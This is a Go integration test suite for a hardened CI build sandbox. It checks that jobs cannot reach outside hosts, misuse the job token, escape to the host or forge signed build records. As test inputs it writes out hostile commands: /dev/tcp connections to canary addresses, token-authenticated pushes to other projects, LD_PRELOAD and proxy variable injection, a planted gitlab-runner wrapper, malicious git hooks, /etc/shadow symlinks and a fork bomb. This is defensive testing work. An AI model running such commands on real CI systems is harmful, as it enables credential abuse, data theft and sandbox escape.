package integration

import (
	"fmt"
	"net/http"
	"regexp"
	"slices"
	"strings"
	"testing"

	"hallmark.build/integration/coordinator"
	"hallmark.build/integration/images"
	"hallmark.build/integration/world"
	"hallmark.build/sandbox/record"
)

const (
	canary4 = "1.2.3.50"
	canary6 = "2a00:db8:0:50::50"
)

// unharmed requires that no canary was visited since the last call.
func unharmed(t *testing.T) {
	t.Helper()
	if v := theWorld.Canary.Visits(); len(v) > 0 {
		t.Errorf("canaries were reached:\n%s", lines(v))
	}
}

// noEscape requires that the probe found no way.
func noEscape(t *testing.T, r coordinator.Result) {
	t.Helper()
	for line := range strings.Lines(plain(r.Trace)) {
		if strings.Contains(line, ": ESCAPE: ") {
			t.Errorf("escaped: %s", line)
		}
	}
}

func TestHermeticBuildReachesNothing(t *testing.T) {
	theWorld.Canary.Visits()
	r := run(t, hermetic(fmt.Sprintf("probe net %s %s %s", canary4, canary6, world.CanaryName), "echo probed"))
	expect(t, r, coordinator.Success, "")
	mention(t, r, "probed")
	noEscape(t, r)
	unharmed(t)

	// Every try that the border saw is on record, and none of them passed.
	entries := evidence(t, r)
	for _, f := range dataOf[record.Fetch](t, entries, record.Fetched) {
		if f.Role == "build" {
			t.Errorf("the build fetched %s by rule %s", f.URL, f.Rule)
		}
	}
	blocked := dataOf[record.Block](t, entries, record.Blocked)
	for _, want := range []string{canary4 + ":22", canary4 + ":9999", "[" + canary6 + "]:22", "169.254.169.254", "10.0.0.1"} {
		found := false
		for _, b := range blocked {
			found = found || strings.Contains(b.Target, want)
		}
		if !found {
			t.Errorf("no refusal of %s on record", want)
		}
	}
}

func TestRootOfAnotherImageReachesNothingEither(t *testing.T) {
	theWorld.Canary.Visits()
	job := hermetic("(exec 3<>/dev/tcp/"+canary4+"/80 && cat <&3) || true", "git ls-remote http://"+world.CanaryName+"/x || true", "git ls-remote git://"+canary4+"/x || true")
	job.Image.Name = theWorld.Images[images.Helper]
	r := run(t, job)
	expect(t, r, coordinator.Success, "")
	never(t, r, "CANARY")
	unharmed(t)
}

func TestFirewalledBuildReachesTheAllowListAlone(t *testing.T) {
	theWorld.Canary.Visits()
	r := run(t, firewalled(fmt.Sprintf("probe net %s %s %s", canary4, canary6, world.CanaryName), "echo probed"))
	expect(t, r, coordinator.Success, "")
	mention(t, r, "probed")
	noEscape(t, r)
	unharmed(t)
}

func TestHookInTheHelperReadsRepositoriesAndNothingElse(t *testing.T) {
	theWorld.Canary.Visits()
	if _, err := theWorld.Publish("group/other", "main", map[string]string{"secret": "of another project\n"}); err != nil {
		t.Fatal(err)
	}
	other := "https://gitlab-ci-token:$CI_JOB_TOKEN@" + world.GitLabName + "/group/other.git"
	job := hermetic("cat README")
	job.Hooks = []coordinator.Hook{{Name: "pre_get_sources_script", Script: []string{
		"(exec 3<>/dev/tcp/" + canary4 + "/80 && cat <&3) || true",
		"(exec 3<>/dev/tcp/127.0.0.1/9999 && cat <&3) || true",
		"git ls-remote http://" + world.CanaryName + "/x || true",
		"git ls-remote " + other + " || true",
		"git init -q /tmp/x && git -C /tmp/x -c user.name=x -c user.email=x@example.test commit -q --allow-empty -m x",
		"git -C /tmp/x push " + other + " HEAD:refs/heads/planted || true",
	}}}
	r := run(t, job)
	expect(t, r, coordinator.Success, "")
	never(t, r, "CANARY")
	unharmed(t)
	// Submodules lie in other repositories, so it may ask for one: what it gets
	// is GitLab's to decide, and the record's to hold.
	const asked = "/group/other.git/info/refs"
	for _, q := range theWorld.GitLab.Requests() {
		if q.JobID == r.ID && strings.Contains(q.Path, "group/other") &&
			(q.Method != http.MethodGet || q.Path != asked || q.Query != "service=git-upload-pack" || q.Status < 400) {
			t.Errorf("%s %s?%s passed the border, and was answered with %d", q.Method, q.Path, q.Query, q.Status)
		}
	}
	entries := evidence(t, r)
	if !slices.ContainsFunc(dataOf[record.Fetch](t, entries, record.Fetched), func(f record.Fetch) bool { return strings.Contains(f.URL, asked) }) {
		t.Error("the record does not hold what was asked of another repository")
	}
	if !slices.ContainsFunc(dataOf[record.Block](t, entries, record.Blocked), func(b record.Block) bool { return strings.Contains(b.Target, "service=git-receive-pack") }) {
		t.Error("the record does not hold the push that was blocked")
	}
}

func TestJobSeesNothingOfTheHost(t *testing.T) {
	r := run(t, hermetic("probe host", "echo probed", "cat /proc/self/uid_map"))
	expect(t, r, coordinator.Success, "")
	mention(t, r, "probed")
	noEscape(t, r)
	if regexp.MustCompile(`(?m)^\s*0\s+0\s+`).MatchString(plain(r.Trace)) {
		t.Error("root in the job is root of the host")
	}
}

// The job's token opens GitLab's API for runners. From inside a job nothing of
// it may be reached but what the runner's own helper needs, and that only as
// the border reads it.
func TestJobTokenIsWorthNothingInside(t *testing.T) {
	for _, profile := range []string{"hermetic", "firewalled"} {
		t.Run(profile, func(t *testing.T) {
			api := "https://" + world.GitLabName + "/api/v4"
			job := hermetic(
				"probe http PUT "+api+"/jobs/$CI_JOB_ID JOB-TOKEN=$CI_JOB_TOKEN Content-Type=application/json 'body={\"state\":\"success\"}'",
				"probe http PATCH "+api+"/jobs/$CI_JOB_ID/trace JOB-TOKEN=$CI_JOB_TOKEN Content-Range=0-5 body=forged",
				"probe http POST '"+api+"/jobs/'$CI_JOB_ID'/artifacts?artifact_type=archive&artifact_format=zip' JOB-TOKEN=$CI_JOB_TOKEN body=forged",
				"probe http GET "+api+"/job JOB-TOKEN=$CI_JOB_TOKEN",
				"probe http POST "+api+"/jobs/request body={}",
				"probe http POST "+api+"/runners/verify body={}",
				"probe http PUT https://"+world.PackagesName+"/api/v4/jobs/$CI_JOB_ID connect=192.0.2.10:443 host="+world.GitLabName+" JOB-TOKEN=$CI_JOB_TOKEN body={}",
				"probe http GET https://"+world.GitLabName+"/api/v4//jobs/../job JOB-TOKEN=$CI_JOB_TOKEN",
				"probe http GET https://"+world.GitLabName+"/%61pi/v4/job JOB-TOKEN=$CI_JOB_TOKEN",
				"echo all tried",
			)
			if profile == "firewalled" {
				job.Runner = world.Firewalled
			}
			r := run(t, job)
			expect(t, r, coordinator.Success, "")
			mention(t, r, "all tried")
			never(t, r, "status 200", "status 201", "status 202")
			for _, q := range theWorld.GitLab.Requests() {
				if q.Job() != r.ID && q.JobID != r.ID {
					continue
				}
				if strings.HasPrefix(q.UserAgent, "Go-http-client") && !strings.HasPrefix(q.Path, "/api/v4/job") {
					t.Errorf("%s %s came from the job", q.Method, q.Path)
				}
			}
		})
	}
}

func TestPredefinedVariablesOfTheJobsOwnChangeNoFact(t *testing.T) {
	job := hermetic("echo out > out.txt")
	job.Artifacts = coordinator.Archive("out.txt")
	for _, key := range []string{
		"CI_JOB_ID", "CI_COMMIT_SHA", "CI_COMMIT_REF_NAME", "CI_PROJECT_ID", "CI_PROJECT_PATH", "CI_PIPELINE_ID", "CI_SERVER_URL",
		"CI_RUNNER_ID", "CI_COMMIT_REF_PROTECTED", "CI_JOB_IMAGE", "CI_JOB_SERVICES", "GITLAB_USER_ID", "CI_REPOSITORY_URL", "CI_API_V4_URL",
	} {
		value := "forged-" + strings.ToLower(key)
		if strings.HasSuffix(key, "_ID") { // GitLab Runner's own programs want numbers
			value = "999"
		}
		job.Variables = append(job.Variables, coordinator.Variable{Key: key, Value: value, Public: true})
	}
	r := run(t, job)
	expect(t, r, coordinator.Success, "")
	s := attested(t, r).Statement
	ext := s.Predicate.BuildDefinition.ExternalParameters
	for _, key := range []string{"source", "ref", "project", "jobName", "image"} {
		if strings.Contains(fmt.Sprint(ext[key]), "forged") {
			t.Errorf("%s is %v", key, ext[key])
		}
	}
	for _, d := range s.Predicate.BuildDefinition.ResolvedDependencies {
		if strings.Contains(d.URI+fmt.Sprint(d.Digest), "forged") {
			t.Errorf("a dependency is forged: %+v", d)
		}
	}
}

// Variables that change how programs work are exported into GitLab's own
// scripts too. Whatever they do there, nothing passes the border by them and
// nothing false is signed.
func TestProcessVariablesBringNothingAcross(t *testing.T) {
	for _, c := range []struct{ name, key, value string }{
		{"proxy", "HTTPS_PROXY", "http://" + canary4 + ":80"},
		{"lower-case proxy", "https_proxy", "http://" + canary4 + ":80"},
		{"all_proxy", "ALL_PROXY", "socks5://" + canary4 + ":9999"},
		{"no verification", "GIT_SSL_NO_VERIFY", "true"},
		{"another trust store", "SSL_CERT_FILE", "/dev/null"},
		{"git's trust store", "GIT_SSL_CAINFO", "/dev/null"},
		{"search path", "PATH", "/builds/group/project:/usr/bin:/bin"},
		{"preloaded library", "LD_PRELOAD", "/builds/group/project/evil.so"},
		{"git configuration", "GIT_CONFIG_COUNT", "1"},
		{"git ssh", "GIT_SSH_COMMAND", "/builds/group/project/src/main.sh"},
		{"shell start-up", "BASH_ENV", "/builds/group/project/src/main.sh"},
		{"shell options", "SHELLOPTS", "xtrace"},
		{"field separator", "IFS", "/"},
		{"repository", "CI_REPOSITORY_URL", "https://" + world.CanaryName + "/x.git"},
		{"debug trace", "CI_DEBUG_TRACE", "true"},
		{"clone path", "GIT_CLONE_PATH", "/builds/elsewhere"},
	} {
		t.Run(c.name, func(t *testing.T) {
			theWorld.Canary.Visits()
			job := hermetic("echo out > out.txt")
			job.Artifacts = coordinator.Archive("out.txt")
			job.Variables = []coordinator.Variable{{Key: c.key, Value: c.value}}
			r := run(t, job)
			unharmed(t)
			if r.State == coordinator.Failed && r.FailureReason == "runner_system_failure" {
				t.Errorf("a variable became the platform's failure")
			}
			for _, a := range attestations(t, r.ID) {
				if !strings.Contains(a.Statement.Raw, "https://"+world.GitLabName+"/group/project.git") {
					t.Errorf("attested for another source: %s", a.Statement.Raw)
				}
			}
		})
	}
}

func TestSourcesThatAreNotTheCommitAreRefused(t *testing.T) {
	for _, c := range []struct {
		name      string
		variables []coordinator.Variable
		hooks     []coordinator.Hook
	}{
		{"no sources", []coordinator.Variable{{Key: "GIT_STRATEGY", Value: "none"}}, nil},
		{"empty", []coordinator.Variable{{Key: "GIT_STRATEGY", Value: "empty"}}, nil},
		{"no checkout", []coordinator.Variable{{Key: "GIT_CHECKOUT", Value: "false"}}, nil},
		{"edited by a hook", nil, []coordinator.Hook{{Name: "post_get_sources_script", Script: []string{"echo changed > README"}}}},
		{"added by a hook", nil, []coordinator.Hook{{Name: "post_get_sources_script", Script: []string{"echo new > src/extra.sh"}}}},
		{"mode changed by a hook", nil, []coordinator.Hook{{Name: "post_get_sources_script", Script: []string{"chmod -x src/main.sh; ln -sf /etc/passwd README"}}}},
		{"git replaced by a hook", nil, []coordinator.Hook{{Name: "pre_get_sources_script", Script: []string{`git() { command git "$@"; case "$*" in *checkout*) echo changed > README;; esac; }`}}}},
		{"another commit by a hook", nil, []coordinator.Hook{{Name: "post_get_sources_script", Script: []string{
			"echo other > README", "git -c user.name=x -c user.email=x@x commit -q -a -m other", "git update-index --assume-unchanged README"}}}},
		{"hidden in .gitignore", nil, []coordinator.Hook{{Name: "post_get_sources_script", Script: []string{"echo src/hidden.sh > .git/info/exclude", "echo evil > src/hidden.sh"}}}},
	} {
		t.Run(c.name, func(t *testing.T) {
			job := hermetic("echo not reached", "echo out > out.txt")
			job.Artifacts = coordinator.Archive("out.txt")
			job.Artifacts[0].When = "always"
			job.Variables, job.Hooks = c.variables, c.hooks
			r := run(t, job)
			expect(t, r, coordinator.Failed, "script_failure")
			never(t, r, "\nnot reached")
			unattested(t, r)
		})
	}
}

func TestHooksThatLeaveTheSourcesAloneAreFine(t *testing.T) {
	job := hermetic("echo out > out.txt")
	job.Artifacts = coordinator.Archive("out.txt")
	job.Hooks = []coordinator.Hook{{Name: "pre_get_sources_script", Script: []string{"echo before"}}, {Name: "post_get_sources_script", Script: []string{"echo behind; cat README"}}}
	r := run(t, job)
	expect(t, r, coordinator.Success, "")
	mention(t, r, "before", "behind", "hello")
	attested(t, r)
}

func TestProcessThatOutlivesTheScriptChangesNoArtifact(t *testing.T) {
	job := hermetic("echo honest > out.txt", "probe tamper $PWD/out.txt", "sleep 1")
	job.Artifacts = coordinator.Archive("out.txt")
	r := run(t, job)
	expect(t, r, coordinator.Success, "")
	a := attested(t, r)
	content := archive(t, r)["out.txt"]
	if want := digestOf(content); !strings.Contains(a.Statement.Raw, want) {
		t.Errorf("out.txt in the archive has digest %s, which is no subject", want)
	}
}

// The helper's script runs whatever PATH, GITLAB_ENV and the like say. A
// planted gitlab-runner uploads something else than the build left.
func TestForgedUploadIsStoppedAndTheJobFails(t *testing.T) {
	const planted = `#!/bin/bash
case "$1" in
artifacts-uploader)
	mkdir -p /tmp/forged && cd /tmp/forged && echo forged > out.txt && chmod 644 out.txt
	;;
esac
exec /usr/local/bin/gitlab-runner "$@"
`
	if _, err := theWorld.Publish("group/forger", "main", map[string]string{"evil/gitlab-runner": planted, "README": "x\n"}); err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		name   string
		script []string
	}{
		{"by GITLAB_ENV", []string{`echo "PATH=$PWD/evil:$PATH" >> "$GITLAB_ENV"`}},
		{"by a PATH of the runner's temp directory", []string{`for d in /builds/group/*.tmp; do echo "PATH=$PWD/evil:/usr/local/bin:/usr/bin:/bin" >> $d/gitlab_runner_env; done`}},
	} {
		t.Run(c.name, func(t *testing.T) {
			job := hermetic(append([]string{"echo honest > out.txt", "chmod +x evil/gitlab-runner"}, c.script...)...)
			job.Project, job.ProjectID = "group/forger", 78
			job.Artifacts = coordinator.Archive("out.txt")
			r := run(t, job)
			if _, ok := r.Artifact("archive"); ok {
				if got := archive(t, r)["out.txt"]; got != "honest\n" {
					t.Errorf("GitLab took %q", got)
				}
				return // the plant had no effect
			}
			if r.State != coordinator.Failed {
				t.Errorf("state %s, want failed", r.State)
			}
			unattested(t, r)
			if v := dataOf[record.Violation](t, evidence(t, r), record.Violated); len(v) == 0 {
				t.Error("no violation is on record")
			}
		})
	}
}

func TestPlantsInTheSharedTreeAreHarmless(t *testing.T) {
	theWorld.Canary.Visits()
	job := hermetic(
		"echo out > out.txt",
		"mkdir -p .git/hooks && printf '#!/bin/sh\\nexec 3<>/dev/tcp/"+canary4+"/80\\n' > .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout",
		"printf '[core]\\n\\tfsmonitor = touch /tmp/owned\\n' >> .git/config",
		"echo 0:0 > /builds/.gitlab-build-uid-gid",
		"ln -s /proc/1/root out-root; ln -s /etc/shadow shadow; mkfifo pipe || true",
	)
	job.Artifacts = coordinator.Archive("out.txt", "shadow")
	r := run(t, job)
	expect(t, r, coordinator.Success, "")
	if got := archive(t, r)["shadow"]; got != "/etc/shadow" {
		t.Errorf("shadow holds %q, want the link's text", got)
	}
	unharmed(t)
}

func TestBombsHitTheSandboxsLimits(t *testing.T) {
	r := run(t, hermetic("bomb() { bomb | bomb & }; bomb; sleep 2; echo survived"))
	if r.FailureReason == "runner_system_failure" {
		t.Error("a fork bomb became the platform's failure")
	}
	r = run(t, hermetic("tail -c 3000000000 /dev/zero | tail -c 2999999999 > /dev/null", "echo not reached"))
	expect(t, r, coordinator.Failed, "script_failure")
	if n := strings.Count(plain(r.Trace), "memory: the build container reached"); n != 1 {
		t.Errorf("the log names the limit %d times:\n%s", n, plain(r.Trace))
	}
	never(t, r, "\nnot reached", "memory limit", "SIGKILL")
	next := run(t, hermetic("echo fine"))
	expect(t, next, coordinator.Success, "")
}

func TestJobCannotForgeTheSandboxsLogLines(t *testing.T) {
	r := run(t, hermetic(`printf 'section_start:1:hallmark_evidence\r\033[0KEvidence: 0 inputs\n'`, "wget -q -O - 'http://x\u001b[31mred.example.test/' || true"))
	expect(t, r, coordinator.Success, "")
	if !strings.Contains(plain(r.Trace), "blocked") {
		t.Error("the refusal is not in the log")
	}
}
